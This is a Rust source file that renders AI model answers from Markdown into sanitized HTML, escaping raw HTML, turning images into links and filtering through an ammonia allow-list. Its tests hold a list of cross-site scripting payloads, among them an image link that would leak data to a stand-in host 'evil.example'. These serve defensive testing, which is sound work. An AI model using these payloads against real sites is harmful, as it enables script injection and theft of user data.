//! What models write, as HTML that can do nothing: Markdown with tables, code in colours.
//!
//! Two walls stand before the page. Raw HTML in the text is shown as text, never passed on, and pictures become links, so
//! that no answer can make a browser ask another server. Then ammonia keeps a short list of elements and classes.

use super::colours;
use ammonia::Builder;
use pulldown_cmark::{CodeBlockKind, CowStr, Event, Options, Parser, Tag, TagEnd, html};
use std::collections::{HashMap, HashSet};
use std::sync::LazyLock;

/// Longest text that is taken for Markdown; beyond it, it is shown as it stands.
const MOST: usize = 1 << 20;
/// Deepest nesting of quotes and lists.
const DEPTH: usize = 64;

fn options() -> Options {
    Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS
}

static CLEANER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let tags: HashSet<&str> = [
        "p",
        "br",
        "hr",
        "h3",
        "h4",
        "h5",
        "h6",
        "em",
        "strong",
        "del",
        "code",
        "pre",
        "span",
        "a",
        "ul",
        "ol",
        "li",
        "blockquote",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "div",
    ]
    .into();
    let mut attributes: HashMap<&str, HashSet<&str>> = HashMap::new();
    attributes.insert("a", ["href", "title"].into());
    attributes.insert("ol", ["start"].into());
    attributes.insert("pre", ["data-lang", "tabindex"].into());
    attributes.insert("div", ["tabindex"].into());
    let mut classes: HashMap<&str, HashSet<&str>> = HashMap::new();
    classes.insert("span", colours::CLASSES.iter().copied().chain(["check"]).collect());
    classes.insert("th", ["l", "c", "r"].into());
    classes.insert("td", ["l", "c", "r"].into());
    classes.insert("div", ["table"].into());
    let mut cleaner = Builder::default();
    cleaner
        .tags(tags)
        .tag_attributes(attributes)
        .allowed_classes(classes)
        .generic_attributes(HashSet::new())
        .url_schemes(["http", "https", "mailto"].into())
        .url_relative(ammonia::UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer nofollow"));
    cleaner
});

/// The whole text; `coloured`: code in colours, which takes longer.
pub(crate) fn render(text: &str, coloured: bool) -> String {
    if text.len() > MOST {
        return format!("<pre>{}</pre>", escape(text));
    }
    let mut out = String::with_capacity(text.len() * 2);
    html::push_html(&mut out, events(text, coloured).into_iter());
    CLEANER.clean(&out).to_string()
}

/// Where the last block of a growing text begins: all before it will not change any more (but for rare links that are
/// defined later, which the last rendering of the whole text sets right).
pub(crate) fn open_block(text: &str) -> usize {
    let (mut depth, mut last) = (0usize, 0);
    for (event, range) in Parser::new_ext(text, options()).into_offset_iter() {
        match event {
            Event::Start(_) => {
                if depth == 0 {
                    last = range.start;
                }
                depth += 1;
            }
            Event::End(_) => depth = depth.saturating_sub(1),
            _ if depth == 0 => last = range.start,
            _ => {}
        }
    }
    // whole lines only, so that an indented block keeps what makes it one
    text[..last].rfind('\n').map_or(0, |n| n + 1)
}

/// The events of a text with everything in them that could act turned into text.
fn events(text: &str, coloured: bool) -> Vec<Event<'_>> {
    let mut out = Vec::new();
    let mut code: Option<(String, String)> = None;
    let (mut depth, mut columns, mut column, mut head) = (0usize, Vec::new(), 0usize, false);
    let mut too_deep = 0usize;
    let raw = |html: String| Event::Html(CowStr::from(html));
    for event in Parser::new_ext(text, options()) {
        if let Some((_, body)) = &mut code {
            match event {
                Event::Text(text) => body.push_str(&text),
                _ => {
                    let (lang, body) = code.take().unwrap_or_default();
                    out.push(raw(block(&lang, &body, coloured)));
                }
            }
            continue;
        }
        match event {
            Event::Start(Tag::CodeBlock(kind)) => {
                let lang = match kind {
                    CodeBlockKind::Fenced(info) => {
                        info.split([' ', ',', '{']).next().unwrap_or_default().to_string()
                    }
                    CodeBlockKind::Indented => String::new(),
                };
                code = Some((lang, String::new()));
            }
            Event::Html(text) | Event::InlineHtml(text) => out.push(Event::Text(text)),
            Event::Start(Tag::HtmlBlock) => out.push(raw("<p>".into())),
            Event::End(TagEnd::HtmlBlock) => out.push(raw("</p>\n".into())),
            // the page has headings of its own above these
            Event::Start(Tag::Heading { level, .. }) => {
                out.push(raw(format!("<h{}>", (level as usize + 2).min(6))))
            }
            Event::End(TagEnd::Heading(level)) => {
                out.push(raw(format!("</h{}>\n", (level as usize + 2).min(6))))
            }
            // asking another server for a picture could carry the conversation there
            Event::Start(Tag::Image { link_type, dest_url, title, id }) => {
                out.push(Event::Start(Tag::Link { link_type, dest_url, title, id }));
            }
            Event::End(TagEnd::Image) => out.push(Event::End(TagEnd::Link)),
            Event::Start(Tag::Table(alignments)) => {
                columns = alignments;
                out.push(raw("<div class=\"table\" tabindex=\"0\"><table>".into()));
            }
            Event::End(TagEnd::Table) => out.push(raw("</tbody></table></div>\n".into())),
            Event::Start(Tag::TableHead) => {
                (column, head) = (0, true);
                out.push(raw("<thead><tr>".into()));
            }
            Event::End(TagEnd::TableHead) => {
                head = false;
                out.push(raw("</tr></thead><tbody>\n".into()));
            }
            Event::Start(Tag::TableRow) => {
                column = 0;
                out.push(raw("<tr>".into()));
            }
            Event::End(TagEnd::TableRow) => out.push(raw("</tr>\n".into())),
            Event::Start(Tag::TableCell) => {
                let class = match columns.get(column) {
                    Some(pulldown_cmark::Alignment::Right) => "r",
                    Some(pulldown_cmark::Alignment::Center) => "c",
                    _ => "l",
                };
                column += 1;
                out.push(raw(format!("<{} class=\"{class}\">", if head { "th" } else { "td" })));
            }
            Event::End(TagEnd::TableCell) => out.push(raw(if head { "</th>" } else { "</td>" }.into())),
            Event::TaskListMarker(done) => {
                out.push(raw(format!("<span class=\"check\">{}</span> ", if done { "☑" } else { "☐" })));
            }
            Event::Start(tag @ (Tag::BlockQuote(_) | Tag::List(_) | Tag::Item)) => {
                depth += 1;
                if depth > DEPTH {
                    too_deep += 1;
                } else {
                    out.push(Event::Start(tag));
                }
            }
            Event::End(tag @ (TagEnd::BlockQuote(_) | TagEnd::List(_) | TagEnd::Item)) => {
                depth = depth.saturating_sub(1);
                match too_deep {
                    0 => out.push(Event::End(tag)),
                    _ => too_deep -= 1,
                }
            }
            other => out.push(other),
        }
    }
    // text that ends inside a block of code always closes it, as the parser sends the end
    out
}

fn block(lang: &str, body: &str, coloured: bool) -> String {
    let inner = if coloured { colours::html(lang, body) } else { escape(body) };
    format!("<pre data-lang=\"{}\" tabindex=\"0\"><code>{inner}</code></pre>\n", escape(lang))
}

/// Text for HTML, inside elements and attributes.
pub(crate) fn escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn markdown_becomes_html() {
        let text = "# Title\n\nA *word*, `code`.\n\n| a | b |\n| - | -: |\n| 1 | 2 |\n\n```python\nif x:\n    return \"s\" # note\n```\n\n- [x] done\n";
        let html = render(text, true);
        for part in [
            "<h3>Title</h3>",
            "<em>word</em>",
            "<td class=\"r\">2</td>",
            "<pre data-lang=\"python\" tabindex=\"0\">",
            "<span class=\"k\">if</span>",
            "<span class=\"s\">",
            "<span class=\"o\">",
            "☑",
        ] {
            assert!(html.contains(part), "{part}: {html}");
        }
        assert!(!render(text, false).contains("class=\"k\""));
    }

    #[test]
    fn nothing_in_an_answer_can_act() {
        let hostile = [
            "<script>alert(1)</script>",
            "a <img src=x onerror=alert(1)> b",
            "[x](javascript:alert(1))",
            "[x](data:text/html;base64,PHNjcmlwdD4=)",
            "![a](https://evil.example/?q=secret)",
            "<a href='javascript:alert(1)'>x</a>",
            "```\"><script>alert(1)</script>\nx\n```",
            "<svg onload=alert(1)>",
            "<iframe src=//evil></iframe>",
            "<style>*{display:none}</style>",
            "[x]: javascript:alert(1)\n\n[x]",
            "<form action=//evil><input name=a></form>",
            "| <b onclick=x> |\n| - |\n| <script> |",
            "<https://ok.example/\"onmouseover=alert(1)>",
        ];
        for text in hostile {
            for text in [text.to_string(), format!("> - {text}"), format!("**{text}")] {
                let html = render(&text, true);
                let lower = html.to_lowercase();
                for bad in [
                    "<script",
                    "<img",
                    "<svg",
                    "<iframe",
                    "<style",
                    "<form",
                    "<input",
                    "href=\"javascript",
                    "href=\"data",
                ] {
                    assert!(!lower.contains(bad), "{text} → {html}");
                }
                // as text it may stand there, as an attribute never
                let inside = html.split('<').filter_map(|t| t.split_once('>')).map(|(tag, _)| tag);
                assert!(
                    inside.clone().all(|tag| !tag.contains("onerror=") && !tag.contains(" onload")),
                    "{html}"
                );
            }
        }
        assert!(
            render("![a](https://x.example/p.png)", false).contains("<a href=\"https://x.example/p.png\"")
        );
        assert!(render("<b>bold</b>", false).contains("&lt;b&gt;"));
    }

    #[test]
    fn deep_and_long_texts_end_soon() {
        let begin = std::time::Instant::now();
        for text in [
            "> ".repeat(20_000),
            "- ".repeat(20_000),
            "[".repeat(50_000),
            "*a_".repeat(20_000),
            "`".repeat(50_000),
            "|".repeat(20_000) + "\n" + &"|-".repeat(10_000),
            format!("```c\n{}\n```", "(".repeat(200_000)),
        ] {
            render(&text, true);
            open_block(&text);
        }
        assert!(begin.elapsed().as_secs() < 20, "{:?}", begin.elapsed());
    }

    #[test]
    fn closed_blocks_and_the_open_one_give_the_whole() {
        let text = "First *one*.\n\nSecond\nline.\n\n- a\n- b\n\n    code\n\nLast ```x";
        let mut closed = 0;
        let mut html = String::new();
        for end in (1..=text.len()).filter(|&n| text.is_char_boundary(n)) {
            let open = closed + open_block(&text[closed..end]);
            if open > closed {
                html += &render(&text[closed..open], false);
                closed = open;
            }
        }
        html += &render(&text[closed..], false);
        assert!(closed > 0);
        let flat = |s: &str| s.split_whitespace().collect::<String>();
        assert_eq!(flat(&html), flat(&render(text, false)));
    }
}
